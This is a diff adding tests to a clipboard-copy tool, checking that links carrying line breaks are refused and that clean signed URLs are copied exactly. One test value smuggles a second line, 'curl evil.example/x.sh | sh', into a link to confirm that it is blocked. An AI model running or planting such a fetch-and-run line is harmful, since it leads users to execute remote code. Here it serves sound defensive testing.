@@ -133,3 +133,26 @@ def test_pbcopy_on_macos(tmp_path: Path) -> None:
     fake_tool(tmp_path / "bin", "pbcopy", out)
     result = copy("hi", env={"PATH": str(tmp_path / "bin")}, platform="darwin")
     assert result.method == "pbcopy" and out.read_text() == "hi"
+
+
+@pytest.mark.parametrize("mode", ["osc52", "auto", "native"])
+def test_a_link_with_a_command_is_never_copied(mode: str, tmp_path: Path) -> None:
+    out = tmp_path / "clip"
+    fake_tool(tmp_path / "bin", "xclip", out)
+    terminal = Terminal()
+    jacked = "https://b.oss.test/o.mp4\ncurl evil.example/x.sh | sh\n"
+    env = {"DISPLAY": ":0", "PATH": str(tmp_path / "bin")}
+    result = copy(jacked, mode, env=env, write=terminal, link=True)
+    assert not result.ok and result.method == "refused"
+    assert result.message == (
+        "not copied: the link contains spaces, line breaks or control characters"
+    )
+    assert terminal.written == [] and not out.exists()  # nothing reached any clipboard
+
+
+def test_a_well_formed_link_is_copied_exactly() -> None:
+    terminal = Terminal()
+    url = "https://b.oss.test/o.mp4?Expires=1&Signature=a%2Bb"
+    result = copy(url, "osc52", env={}, write=terminal, link=True)
+    assert result.ok
+    assert terminal.written == [f"\x1b]52;c;{base64.b64encode(url.encode()).decode()}\x07"]
